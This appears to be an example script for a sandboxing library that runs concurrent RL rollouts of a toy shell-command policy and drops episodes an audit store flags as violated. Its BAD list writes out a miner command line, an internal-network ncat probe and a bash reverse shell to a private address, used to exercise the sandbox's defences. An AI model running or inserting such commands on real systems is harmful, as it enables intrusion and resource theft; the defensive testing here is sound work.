"""An async rollout loop in the style of verl / SkyRL, on corral, with its trajectories filtered at the end.

A toy policy picks shell commands from a small list (mostly benign, a few that a rogue agent would
run: a miner's command line, a probe of an internal address, a reverse shell). N episodes run
concurrently, at most --concurrency at a time (an asyncio semaphore), each in its own sandbox
labelled run/episode. Every trajectory (episode label, commands, outputs, reward) is written as a
JSON line; at the end each episode is looked up in the audit store by its labels and the violated
ones are dropped from the training data, as ROME's report asks ("safety-aligned data filtering").

    sudo .venv/bin/python examples/rollout.py --episodes 20

Nothing leaves the machine: the bad commands aim at private addresses, which corral's fence refuses.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import random
import secrets
import sys
import tempfile
import time
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from corral import AsyncSandbox, CorralError, Host, Policy, SandboxClosedError, Store

# The toy policy's action space: (kind, command). The kind is for the reader; corral never sees it.
BENIGN = [
    "echo 'hello' > notes.txt && cat notes.txt",
    "python3 -c 'print(sum(range(100000)))'",
    "printf 'def f():\\n    return 41 + 1\\n' > m.py && python3 -c 'import m; print(m.f())'",
    "ls -la /workspace",
    "for i in 1 2 3; do echo line $i; done | wc -l",
    "echo '{\"ok\": true}' | python3 -m json.tool",
]
BAD = [
    # a miner's command line (killed at exec, before it runs)
    "python3 -c pass -o stratum+tcp://pool.example.internal:3333 -u wallet.rig --donate-level 1",
    # probing the internal network (refused by the fence, alerted)
    "ncat -w 1 10.0.0.5 22 </dev/null",
    # a reverse shell (refused by the fence; the sandbox is terminated)
    "bash -c 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'",
]


@dataclass
class Trajectory:
    run: str
    episode: str
    commands: list[str] = field(default_factory=list)
    outputs: list[str] = field(default_factory=list)
    exit_codes: list[int] = field(default_factory=list)
    reward: float = 0.0
    error: str | None = None  # corral or the host failed (not the agent): set aside, not dropped


def toy_policy(rng: random.Random, p_bad: float) -> str:
    """The 'model': a benign command, or now and then a bad one."""
    return rng.choice(BAD) if rng.random() < p_bad else rng.choice(BENIGN)


@contextlib.asynccontextmanager
async def episode_sandbox(
    policy: Policy, host: Host | None, labels: dict[str, str]
) -> AsyncIterator[AsyncSandbox]:
    """One episode's sandbox. With a warm pool (corral.Pool, being built) this is the one line to change:
    `async with pool.episode(labels=labels) as sb: yield sb`."""
    async with AsyncSandbox(policy, labels=labels, host=host, keep_workspace=False) as sb:
        yield sb


async def rollout(
    policy: Policy, host: Host | None, run: str, episode: int, steps: int, p_bad: float, seed: int
) -> Trajectory:
    rng = random.Random(f"{seed}:{episode}")
    traj = Trajectory(run=run, episode=str(episode))
    try:
        async with episode_sandbox(policy, host, {"run": run, "episode": str(episode)}) as sb:
            for _ in range(steps):
                command = toy_policy(rng, p_bad)
                traj.commands.append(command)
                try:
                    r = await sb.exec(command, timeout=10, text=True)
                except SandboxClosedError:
                    # A tripwire terminated the sandbox under the previous command: the episode is over.
                    traj.commands.pop()
                    break
                assert isinstance(r.stdout, str) and isinstance(r.stderr, str)
                traj.outputs.append((r.stdout + r.stderr)[-2000:])
                traj.exit_codes.append(r.exit_code)
                if r.terminated is not None:
                    break
    except CorralError as e:
        traj.error = f"{type(e).__name__}: {e}"
    # The task's reward: the share of commands that succeeded. (A verdict-based penalty belongs here
    # once `corral.rl`'s reward hook lands; this example drops violated episodes instead.)
    traj.reward = sum(c == 0 for c in traj.exit_codes) / steps
    return traj


async def rollouts(args: argparse.Namespace, policy: Policy, host: Host | None, run: str) -> list[Trajectory]:
    bound = asyncio.Semaphore(args.concurrency)

    async def one(i: int) -> Trajectory:
        async with bound:
            return await rollout(policy, host, run, i, args.steps, args.p_bad, args.seed)

    return await asyncio.gather(*(one(i) for i in range(args.episodes)))


def filter_trajectories(
    rows: list[dict[str, Any]], store: Store
) -> tuple[list[dict[str, Any]], Counter[str]]:
    """Keep the trajectories whose episode the audit store calls clean.

    A stand-in for `corral filter` (being built: the same, on JSON-lines files, with a summary by
    category and a progress bar): switch to it when it lands. Violated episodes are dropped; an
    episode the store doesn't know, or one corral failed to run, is set aside (counted, not kept).
    """
    kept: list[dict[str, Any]] = []
    tally: Counter[str] = Counter()
    for row in rows:
        found = store.sandboxes(labels={"run": row["run"], "episode": row["episode"]})
        if row.get("error") or not found:
            tally["set aside (infra_error)"] += 1
            continue
        info = found[0]
        if info.verdict == "clean":
            kept.append(row)
            tally["clean"] += 1
        else:
            tally["violated"] += 1
            for category in info.categories:
                tally[f"violated: {category}"] += 1
    return kept, tally


@contextlib.contextmanager
def host_for(store: str | None) -> Iterator[Host | None]:
    """A host of the script's own when it records into a store of its own; else corral's default."""
    if store is None:
        yield None
        return
    with Host(store=store) as host:
        yield host


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--episodes", type=int, default=200)
    ap.add_argument("--concurrency", type=int, default=32, help="episodes at a time (default 32)")
    ap.add_argument("--steps", type=int, default=4, help="commands per episode (default 4)")
    ap.add_argument("--p-bad", type=float, default=0.08, help="chance a step is a bad command (default 0.08)")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--policy", help="a policy file (default: corral's offline policy)")
    ap.add_argument("--store", help="audit store (default: CORRAL_STORE or /var/lib/corral/audit.db)")
    ap.add_argument("--out", help="trajectories, JSON lines (default: a new temporary directory)")
    ap.add_argument("--kept", help="the trajectories kept after filtering (default: beside --out)")
    args = ap.parse_args(argv)

    run = f"rollout-{time.strftime('%Y%m%d-%H%M%S')}-{secrets.token_hex(2)}"
    out = Path(args.out) if args.out else Path(tempfile.mkdtemp(prefix="corral-rollout-")) / f"{run}.jsonl"
    kept_path = Path(args.kept) if args.kept else out.with_suffix(".kept.jsonl")
    policy = Policy.load(args.policy) if args.policy else Policy.default()

    started = time.monotonic()
    with host_for(args.store) as host:
        trajectories = asyncio.run(rollouts(args, policy, host, run))
        # Every sandbox is closed, so its events are committed: the store has each episode's verdict.
        where = host.audit.where if host is not None else None
        elapsed = time.monotonic() - started
        with out.open("w") as f:
            for t in trajectories:
                f.write(json.dumps(asdict(t)) + "\n")
        rows = [json.loads(line) for line in out.read_text().splitlines()]
        with Store.open(where) as store:
            kept, tally = filter_trajectories(rows, store)
    with kept_path.open("w") as f:
        for row in kept:
            f.write(json.dumps(row) + "\n")

    dropped = len(rows) - len(kept)
    print(f"run {run}: episodes: {len(rows)} in {elapsed:.1f}s ({len(rows) / elapsed:.1f}/s)")
    aside = tally["set aside (infra_error)"]
    print(f"  clean {tally['clean']}, violated {tally['violated']}, set aside {aside}")
    for key in sorted(k for k in tally if k.startswith("violated: ")):
        print(f"    {key.removeprefix('violated: ')}: {tally[key]} episodes")
    print(f"  dropped trajectories: {dropped} of {len(rows)}; kept {len(kept)}")
    print(f"  trajectories: {out}\n  kept: {kept_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
